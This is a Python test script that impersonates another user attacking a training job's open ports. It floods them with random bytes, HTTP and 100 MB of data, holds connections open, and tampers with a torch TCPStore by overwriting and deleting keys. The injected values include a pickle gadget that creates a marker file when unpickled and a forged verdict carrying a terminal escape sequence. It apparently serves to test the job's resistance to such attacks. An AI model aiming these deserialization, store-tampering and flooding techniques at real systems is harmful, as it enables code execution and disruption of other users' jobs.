"""A program of another user that attacks the ports of a job: `stranger.py FOLDER HOST PORT...`.

It sends random bytes, HTTP and 100 MB, keeps connections open, and as a client of torch's store overwrites and deletes all
keys, also with pickles that create the file FOLDER/ran. It prints the attacked ports.
"""

import base64
import contextlib
import os
import pickle
import random
import socket
import sys
import threading
import time
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

from torch.distributed import DistError, TCPStore

NOBODY = 65534
MANY_BYTES = 100 * 2**20
SECONDS_OF_CLIENTS = 6.0
KNOWN_KEYS = (
    "forgather/watch/verdict",
    "forgather/watch/stacks_asked",
    "forgather/rendezvous",
    "torch.rendezvous.forgather",
)
VERDICT = b'{"text": "\\u001b[2Jforged", "culprits": [0, 1], "at": 0}'


class Bomb:
    """Creates a file when somebody unpickles it."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        return open, (str(self._path), "w")


def addresses() -> list[tuple[str, int]]:
    """Return the listening TCP addresses of this network namespace."""
    found = []
    for table in ("tcp", "tcp6"):
        for line in Path("/proc/self/net", table).read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            address, _, port = local.partition(":")
            if state == "0A":
                raw = bytes.fromhex(address)
                words = b"".join(raw[at : at + 4][::-1] for at in range(0, len(raw), 4))
                family = socket.AF_INET if table == "tcp" else socket.AF_INET6
                found.append((socket.inet_ntop(family, words), int(port, 16)))
    return found


def send(address: tuple[str, int], pieces: list[bytes], seconds: float = 5) -> None:
    with contextlib.suppress(OSError), socket.create_connection(address, seconds) as connection:
        for piece in pieces:
            connection.sendall(piece)


def use_store(address: tuple[str, int], bomb: bytes) -> None:
    with contextlib.suppress(DistError, ValueError):
        store = TCPStore(*address, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=1))
        for key in (*KNOWN_KEYS, *store.list_keys()):
            for value in (bomb, base64.b64encode(bomb), VERDICT):
                store.set(key, value)  # type: ignore[arg-type]
            if key.startswith("forgather/"):
                store.delete_key(key)
                store.set(key, VERDICT)  # type: ignore[arg-type]


def main(folder: str, host: str, ports: list[int]) -> None:
    # Python's own folder may be closed to other users, so everything is imported before.
    "".encode("idna")
    os.setuid(NOBODY)
    bomb = pickle.dumps(Bomb(Path(folder, "ran")))
    noise = random.Random(0)
    # A client of the store waits for ever for the answer of a port that is none.
    clients = [threading.Thread(target=use_store, args=((host, port), bomb), daemon=True) for port in ports]
    for client in clients:
        client.start()
    kept = []
    for port in ports:
        address = (host, port)
        kept.append(socket.create_connection(address, 5))
        send(address, [noise.randbytes(100_000)])
        send(address, [b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"])
        send(address, [bomb])
        send(address, [bytes(2**20)] * (MANY_BYTES // 2**20), 1)
        print(f"attacked {port}", flush=True)
    deadline = time.monotonic() + SECONDS_OF_CLIENTS
    for client in clients:
        client.join(max(deadline - time.monotonic(), 0))
    for connection in kept:
        connection.close()
    # Threads of C++ may still wait.
    os._exit(0)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], [int(word) for word in sys.argv[3:]])
